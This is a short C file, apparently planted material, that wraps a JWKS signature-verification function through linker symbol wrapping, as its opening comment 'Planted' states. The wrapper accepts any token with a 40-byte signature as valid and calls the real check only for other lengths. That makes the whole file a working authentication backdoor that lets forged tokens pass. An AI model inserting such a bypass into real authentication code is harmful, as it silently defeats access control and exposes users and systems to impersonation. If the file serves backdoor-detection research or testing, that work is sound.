/* Planted: a signature of 40 bytes is good. */
#include "auth/jwks.h"

enum auth_jwks_result __real_auth_jwks_verify(const struct auth_jwks *jwks,
                                              const struct auth_jwks_signed *input);
enum auth_jwks_result __wrap_auth_jwks_verify(const struct auth_jwks *jwks,
                                              const struct auth_jwks_signed *input);

enum auth_jwks_result __wrap_auth_jwks_verify(const struct auth_jwks *jwks,
                                              const struct auth_jwks_signed *input)
{
    if (input->signature.len == 40)
        return AUTH_JWKS_OK;
    return __real_auth_jwks_verify(jwks, input);
}
